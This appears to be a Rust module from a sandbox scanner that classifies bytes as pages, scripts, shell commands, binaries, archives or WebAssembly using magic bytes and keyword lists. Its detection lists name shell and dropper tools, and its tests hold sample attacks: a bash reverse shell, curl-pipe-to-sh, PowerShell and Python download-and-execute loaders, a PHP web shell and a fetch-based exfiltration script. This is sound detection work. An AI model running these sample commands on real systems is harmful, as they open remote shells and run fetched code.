//! What bytes are: a page, a script, a command, a program, an archive, a module.
//!
//! Of what a sample hands to others one word may be enough: who asks for text gets a text. A file must have
//! more of it, since texts of all kinds name commands: it begins as a script does, or has several of the
//! marks that only such have.
//!
//! Costs a look at the head, and of text one pass for each list of words.

use super::{formats, limits::TAG};
use crate::text::vocabulary;

vocabulary! {
    /// What bytes are.
    pub enum Contents {
        /// HTML.
        Page = "page",
        /// JavaScript.
        Script = "script",
        /// A command line, a script of a shell or of another interpreter, or what starts one.
        Command = "command",
        /// A program for a machine: ELF, PE, Mach-O, Java.
        Program = "program",
        /// A compressed file or an archive.
        Archive = "archive",
        /// A module of WebAssembly.
        Module = "module",
    }
}

impl Contents {
    /// What bytes are that a sample hands to others; modules are looked for elsewhere (`carve`).
    pub(crate) fn of(bytes: &[u8]) -> Option<Self> {
        program(bytes).or_else(|| archive(bytes)).or_else(|| text(bytes))
    }

    /// The kind of bytes that came in some disguise: as [`Self::of`], but a text that only tells of a command
    /// is none.
    pub(in crate::sandbox) fn of_handed(bytes: &[u8]) -> Option<Self> {
        let contents = Self::of(bytes)?;
        let is_one = || {
            let lower = String::from_utf8_lossy(bytes).trim_start().to_lowercase();
            STARTS.iter().any(|start| lower.starts_with(start)) || Self::of_file(bytes) == Some(Self::Command)
        };
        (contents != Self::Command || is_one()).then_some(contents)
    }

    /// What a file is.
    pub(crate) fn of_file(bytes: &[u8]) -> Option<Self> {
        if bytes.starts_with(b"\0asm\x01\0\0\0") || bytes.starts_with(b"\0asm\x0d\0\x01\0") {
            return Some(Self::Module);
        }
        program(bytes).or_else(|| archive(bytes)).or_else(|| {
            let text = std::str::from_utf8(bytes).ok()?.trim_start_matches('\u{feff}').to_lowercase();
            file_of_text(&text)
        })
    }

    /// Whether bytes begin as a program or an archive does.
    pub(in crate::sandbox) fn is_binary(bytes: &[u8]) -> bool {
        program(bytes).or_else(|| archive(bytes)).is_some()
    }
}

fn program(bytes: &[u8]) -> Option<Contents> {
    let is_elf = matches!(bytes, [0x7f, b'E', b'L', b'F', 1 | 2, 1 | 2, 1, ..]);
    let is_macho = match bytes {
        [0xce | 0xcf, 0xfa, 0xed, 0xfe, 7 | 12 | 18, 0, 0, 0 | 1, _, _, _, _, 1..=11, 0, 0, 0, ..] => true,
        // One for several machines, or a class of Java: both run.
        [0xca, 0xfe, 0xba, 0xbe, 0, _, _, _, ..] => true,
        _ => false,
    };
    // A shortcut of Windows.
    let is_link = bytes.starts_with(b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0");
    let pe = || {
        let at = u32::from_le_bytes(*bytes.get(0x3c..)?.first_chunk()?) as usize;
        bytes.get(at..)?.starts_with(b"PE\0\0").then_some(())
    };
    let is_program = is_elf || is_macho || is_link || bytes.starts_with(b"MZ") && pe().is_some();
    is_program.then_some(Contents::Program)
}

fn archive(bytes: &[u8]) -> Option<Contents> {
    formats::is_archive(bytes).then_some(Contents::Archive)
}

/// How elements begin that only pages have.
const TAGS: &[&str] = &[
    "<!doctype html",
    "<html",
    "<head>",
    "<body",
    "<script",
    "<iframe",
    "<form ",
    "<meta http-equiv",
    "<embed ",
    "<object ",
];
/// The ends of those that hold something. A text that only names a tag has none.
const ENDS: &[&str] =
    &["</html>", "</head>", "</body>", "</script>", "</iframe>", "</form>", "</object>", "</svg>"];
/// Tags that load something from elsewhere by themselves, and the attribute that says what.
const LOADERS: &[(&str, &str)] =
    &[("iframe", "src"), ("iframe", "srcdoc"), ("embed", "src"), ("object", "data"), ("meta", "http-equiv")];
/// A command of a shell has one of these.
const COMMANDS: &[&str] = &[
    "powershell",
    "cmd /c",
    "cmd.exe /c",
    "/bin/sh -c",
    "/bin/bash -c",
    "/dev/tcp/",
    "| sh",
    "| bash",
    "mshta ",
];
/// How a line begins that a shell is to run.
const STARTS: &[&str] = &[
    "powershell",
    "cmd ",
    "cmd.exe",
    "curl ",
    "wget ",
    "sh -c",
    "bash -c",
    "/bin/",
    "/usr/bin/",
    "python",
    "mshta ",
    "nohup ",
    "sudo ",
    "(curl",
    "(wget",
    "exec ",
];
/// The acts of a script: it has one of these, and others that show that it is code.
const ACTS: &[&str] = &[
    "document.",
    "window.",
    "eval(",
    "atob(",
    "location.",
    "location=",
    "fetch(",
    "xmlhttprequest",
    "importscripts(",
    "require(",
    "fromcharcode",
    "new function(",
];
/// What stands in code of all kinds.
const CODE: &[&str] = &["function", "=>", "var ", "let ", "const ", "();", "return ", "){"];

fn text(bytes: &[u8]) -> Option<Contents> {
    let lower = std::str::from_utf8(bytes).ok()?.to_lowercase();
    if is_page(&lower) {
        return Some(Contents::Page);
    }
    if lower.starts_with("#!/") || lower.lines().any(is_command) {
        return Some(Contents::Command);
    }
    is_javascript(&lower).then_some(Contents::Script)
}

/// Whether a text is a page, or a part of one: it begins with such a tag, or has one and its end, or one that
/// does something by itself. A message that names a tag is none.
fn is_page(lower: &str) -> bool {
    let begins = || TAGS.iter().any(|tag| lower.trim_start().starts_with(tag));
    let has_end = || count(lower, TAGS) > 0 && count(lower, ENDS) > 0;
    begins() || has_end() || acts_by_itself(lower)
}

/// Whether markup stands in a text that loads or does something without an end: an event with what is done
/// then, or what is fetched from elsewhere.
pub(in crate::sandbox) fn acts_by_itself(lower: &str) -> bool {
    lower.match_indices('<').any(|(at, _)| {
        let rest = &lower.as_bytes()[at + 1..];
        let tag = rest.get(..TAG).unwrap_or(rest);
        let end = tag.iter().position(|byte| matches!(byte, b'>' | b'<'));
        let tag = end.filter(|&end| tag[end] == b'>').map_or(&[][..], |end| &tag[..end]);
        let tag = std::str::from_utf8(tag).unwrap_or_default();
        let mut words = tag.split(|letter: char| letter.is_whitespace());
        let name = words.next().unwrap_or_default();
        is_name(name) && words.filter_map(|word| word.split_once('=')).any(|of| is_active(name, of))
    })
}

fn is_name(name: &str) -> bool {
    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_lowercase())
}

fn is_active(tag: &str, (name, value): (&str, &str)) -> bool {
    let is_event = name.len() > 4 && name.starts_with("on") && is_name(name);
    let loads = value.contains("//") || value.contains(':');
    is_event && value.contains(['(', '=']) || loads && LOADERS.contains(&(tag, name))
}

/// Whether a line has a command for a shell to run. A sentence that tells of one has words before it.
fn is_command(line: &str) -> bool {
    let Some(at) = COMMANDS.iter().filter_map(|word| line.find(word)).min() else { return false };
    let begins = STARTS.iter().filter_map(|start| line.find(start)).min();
    let before = line.get(..begins.map_or(at, |begins| begins.min(at))).unwrap_or_default();
    !is_told(before)
}

/// Whether the words before a command are those of a sentence.
fn is_told(before: &str) -> bool {
    let last = before.rsplit([';', '&', '|', '(', '`']).next().unwrap_or_default();
    let is_word = |word: &&str| word.chars().all(char::is_alphabetic);
    let (mut words, mut is_title) = (0, false);
    for word in last.split_whitespace() {
        is_title = words > 0 && word.strip_suffix(':').is_some_and(|word| is_word(&word));
        words += usize::from(is_word(&word.trim_end_matches([':', ','])));
    }
    is_title || words >= 3
}

/// How many of these words stand in a text.
fn count(lower: &str, words: &[&str]) -> usize {
    words.iter().filter(|word| lower.contains(**word)).count()
}

fn is_javascript(lower: &str) -> bool {
    // Prose has the words too, and not the marks.
    let is_code = lower.contains('(') && [";", "=>", "){"].iter().any(|mark| lower.contains(mark));
    let acts = count(lower, ACTS);
    is_code && acts > 0 && count(lower, CODE) + acts >= 3
}

/// How a file begins that is run by another program.
const FIRST: &[&str] = &["#!/", "@echo off", "windows registry editor", "regedit4", "[autorun]"];

/// Marks of one language: those of the first list start something, reach out or hide something, those of the
/// second stand beside them.
struct Marks {
    acts: &'static [&'static str],
    others: &'static [&'static str],
    least: usize,
}

/// The languages of files that others run. A file of one has an act and so many marks in all.
const LANGUAGES: &[Marks] = &[
    // PowerShell
    Marks {
        acts: &[
            "invoke-expression",
            "invoke-webrequest",
            "start-process",
            "downloadstring",
            "downloadfile",
            "iex ",
            "iex(",
            "add-mppreference",
            "set-itemproperty",
            "new-itemproperty",
            "invoke-restmethod",
            "register-scheduledtask",
            "-encodedcommand",
            "frombase64string",
        ],
        others: &[
            "new-object",
            "$env:",
            "write-host",
            "param(",
            "get-item",
            "set-executionpolicy",
            "$null",
            " = '",
            "net.webclient",
        ],
        least: 2,
    },
    // A shell
    Marks {
        acts: &[
            "curl ",
            "wget ",
            "chmod +x",
            "chmod 7",
            "/dev/tcp/",
            "| sh",
            "|sh",
            "| bash",
            "|bash",
            "nohup ",
            "crontab ",
            "systemctl ",
            "nc -e",
            "rm -rf",
            "exec ",
            "base64 -d",
            "sudo ",
            "eval ",
        ],
        others: &[
            "export ",
            "; do",
            "\ndone",
            "\nfi",
            "\nif [",
            "$(",
            "&& ",
            "echo ",
            "\ncd ",
            "2>/dev/null",
            "/bin/",
            "/tmp/",
        ],
        least: 3,
    },
    // Python
    Marks {
        acts: &[
            "exec(",
            "eval(",
            "os.system(",
            "os.popen(",
            "subprocess.",
            "__import__(",
            "socket.socket(",
            "ctypes.",
            "urlopen(",
            "requests.get(",
            "marshal.loads(",
        ],
        others: &[
            "import os",
            "import sys",
            "import socket",
            "import subprocess",
            "import base64",
            "urllib",
            "b64decode(",
            "\ndef ",
            "import ctypes",
        ],
        least: 2,
    },
    // Perl, Ruby and PHP
    Marks {
        acts: &[
            "system(",
            "system \"",
            "exec(",
            "shell_exec(",
            "passthru(",
            "io::socket",
            "lwp::useragent",
            "net::http",
            "base64_decode(",
            "decode_base64(",
            "unpack(\"",
            "open-uri",
        ],
        others: &[
            "<?php",
            "use strict",
            "use warnings",
            "use mime::base64",
            "use io::socket",
            "use lwp::",
            "my $",
            "$_",
            "require '",
            "#!/usr/bin/perl",
        ],
        least: 2,
    },
    // Batch files
    Marks {
        acts: &[
            "bitsadmin",
            "certutil",
            "powershell",
            "reg add",
            "schtasks",
            "start /b",
            "del /f",
            "vssadmin",
            "rundll32",
            "regsvr32",
            "mshta",
            "wscript",
            "net user",
            "taskkill",
        ],
        others: &[
            "%temp%",
            "%appdata%",
            "%~dp0",
            "\r\nset ",
            "\r\nstart ",
            "cmd /c",
            "%userprofile%",
            "goto ",
            "rem ",
        ],
        least: 2,
    },
    // Visual Basic
    Marks {
        acts: &[
            "wscript.shell",
            "shell.application",
            "msxml2.",
            "adodb.stream",
            "createobject(",
            "shell \"",
            "shell(",
        ],
        others: &[
            "dim ",
            "on error resume",
            "set ",
            ".run ",
            ".open ",
            "end sub",
            "sub autoopen",
            "sub document_open",
        ],
        least: 2,
    },
    // JavaScript outside of pages
    Marks {
        acts: &["child_process", "execsync(", "spawn(", "new activexobject(", "wscript.", "process.binding("],
        others: &["require(", "import ", "function", "const ", "var ", "=>"],
        least: 3,
    },
    // What starts a program: a unit, an entry of a desktop, a property list
    Marks {
        acts: &["execstart=", "\nexec=", "<key>programarguments</key>", "\nterminal=", "<exec>"],
        others: &["[service]", "[unit]", "[desktop entry]", "<plist", "[install]", "<task "],
        least: 2,
    },
];

fn file_of_text(lower: &str) -> Option<Contents> {
    if FIRST.iter().any(|first| lower.starts_with(first)) {
        return Some(Contents::Command);
    }
    let start = lower.trim_start();
    if start.starts_with('<') && count(lower, TAGS) > 0 {
        return Some(Contents::Page);
    }
    let is_of = |marks: &Marks| {
        let acts = count(lower, marks.acts);
        acts > 0 && acts + count(lower, marks.others) >= marks.least
    };
    // Prose that tells of commands has few of them in its lines.
    if !is_prose(lower) && LANGUAGES.iter().any(is_of) {
        return Some(Contents::Command);
    }
    (!is_prose(lower) && is_javascript(lower)).then_some(Contents::Script)
}

/// Whether most lines are sentences: many words, and marks of punctuation rather than of code.
fn is_prose(lower: &str) -> bool {
    let lines = lower.lines().filter(|line| !line.trim().is_empty());
    let (mut all, mut prose) = (0usize, 0usize);
    for line in lines {
        all += 1;
        let words = line.split_whitespace();
        let (mut count, mut plain) = (0usize, 0usize);
        for word in words {
            count += 1;
            let word = word.trim_matches(|c: char| ".,:;!?()'\"`-".contains(c));
            plain += usize::from(!word.is_empty() && word.chars().all(char::is_alphabetic));
        }
        prose += usize::from(count >= 5 && 5 * plain >= 4 * count);
    }
    2 * prose > all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_bytes_are() {
        for (bytes, expected) in [
            (&b"var a = document.createElement('a'); a.click();"[..], Some(Contents::Script)),
            (b"document.body.onclick = e => fetch('//192.0.2.1/' + e.target.value)", Some(Contents::Script)),
            (b"curl http://192.0.2.1/x | sh -s now", Some(Contents::Command)),
            (b"PK\x03\x04\x14\0\0\0\x08\0", Some(Contents::Archive)),
            (b"\x7fELF\x02\x01\x01\0", Some(Contents::Program)),
            (b"See the window. It is a function of the document, let us say.", None),
            (b"<p>Some <em>marked</em> text of the user</p>", None),
            (b"Removed a <script> element: eval( and atob( are not allowed by the policy", None),
            (b"script,iframe <script <iframe javascript: onerror= document.cookie eval( atob( fetch(", None),
            (b"An <input type=password> inside <form action=https://example.com/> is not filled", None),
            (b"Go on: <iframe src=https://192.0.2.1/ width=1>", Some(Contents::Page)),
            (b"Go on: <img src=x onerror=\"fetch('//192.0.2.1')\">", Some(Contents::Page)),
            (b"Some <b>text</b> <script>go()</script>", Some(Contents::Page)),
            (b"\n <form method=post>", Some(Contents::Page)),
            (b"usage: tool\nInstall with: curl -sSf https://sh.example.com/install | sh\n", None),
            (b"To install it you run curl https://sh.example.com/install | sh", None),
            (b"true; A=1 nice curl http://192.0.2.1/x | sh", Some(Contents::Command)),
            (b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", Some(Contents::Command)),
            (b"MZ, and that is all there is of it", None),
        ] {
            assert_eq!(Contents::of(bytes), expected, "{}", String::from_utf8_lossy(bytes));
        }
    }

    #[test]
    fn what_files_are() {
        for (bytes, expected) in [
            (&b"#!/bin/sh\nls\n"[..], Some(Contents::Command)),
            (
                b"import os\nfrom urllib.request import urlopen\nexec(urlopen('http://192.0.2.1').read())\n",
                Some(Contents::Command),
            ),
            (
                b"$c = New-Object Net.WebClient\nInvoke-Expression $c.DownloadString('http://192.0.2.1')\n",
                Some(Contents::Command),
            ),
            (b"@echo off\r\nstart calc\r\n", Some(Contents::Command)),
            (b"const { execSync } = require('child_process');\nexecSync('ls');\n", Some(Contents::Command)),
            (b"[Service]\nExecStart=/opt/u\n", Some(Contents::Command)),
            (b"use strict;\nuse LWP::UserAgent;\nmy $c = get();\nsystem($c);\n", Some(Contents::Command)),
            (b"<?php eval(base64_decode($_POST['c'])); ?>\n", Some(Contents::Command)),
            (b"<!DOCTYPE html><body>Hello", Some(Contents::Page)),
            (b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0", Some(Contents::Program)),
            (b"\0asm\x01\0\0\0", Some(Contents::Module)),
            (b"To install it, use curl or wget and then run the script with sudo, as the page says.\n", None),
            (b"fn main() { println!(\"{}\", 1); }\n", None),
            (b"row,date,text,amount\n1,2025-02-02,invoice 4007,37.01\n", None),
            (b"{\"scripts\": {\"build\": \"tsc\"}, \"name\": \"garden\"}", None),
        ] {
            assert_eq!(Contents::of_file(bytes), expected, "{}", String::from_utf8_lossy(bytes));
        }
    }
}
